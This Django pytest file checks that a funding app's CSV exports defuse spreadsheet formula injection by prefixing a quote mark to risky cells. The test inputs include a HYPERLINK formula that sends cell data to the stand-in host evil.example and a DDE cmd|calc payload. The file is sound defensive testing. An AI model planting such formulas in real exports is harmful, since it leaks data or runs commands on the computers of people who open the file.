"""Funding's CSVs (grants.csv in 360Giving's columns, the budget table, the funding_report
command) write a formula typed by a partner as text; money stays a number."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from funding.models import Outcome, SpendEntry
from tests.funding import deciding
from tests.funding.factories import BudgetLineFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Details")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_bid_titled_as_a_formula_is_text_in_grants_csv(cast, client_for, board_member):
    bid = cast.supported("999.99", title=FORMULA, description="@SUM(A1:A9)")
    for person in cast.office_holders:
        deciding.office_decide(bid=bid, by=person, outcome=Outcome.APPROVE)
    response = client_for(board_member).get(
        reverse("funding:grants_export", args=[cast.partnership.slug, "csv"])
    )
    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["Title"] == "'" + FORMULA
    assert row["Description"] == "'@SUM(A1:A9)"
    assert row["Amount Awarded"] == "999.99"


def test_a_budget_line_named_as_a_formula_is_text_and_an_overspend_a_number(
    cast, client_for, board_member
):
    line = BudgetLineFactory(fund=cast.fund, description="-2+3+cmd|'/C calc'!A0", allocated=100)
    SpendEntry.objects.create(
        budget_line=line, date=dt.date(2022, 6, 1), amount=Decimal("150.00"), reference="INV1"
    )
    url = reverse("funding:fund", args=[cast.partnership.slug, cast.fund.pk])
    rows = _rows(client_for(board_member).get(url + "?format=csv").content.decode())
    (formula_row,) = [r for r in rows if "calc" in r[0]]
    assert formula_row == ["'-2+3+cmd|'/C calc'!A0", "100.00", "150.00", "-50.00"]


def test_the_funding_report_command_writes_safe_csv(cast):
    BudgetLineFactory(fund=cast.fund, description="=1+1", allocated=5)
    out = io.StringIO()
    call_command(
        "funding_report",
        partnership=cast.partnership.slug,
        fund=cast.fund.name,
        year="2022/23",
        format="csv",
        stdout=out,
    )
    assert ["'=1+1", "5.00", "0.00", "5.00"] in _rows(out.getvalue())
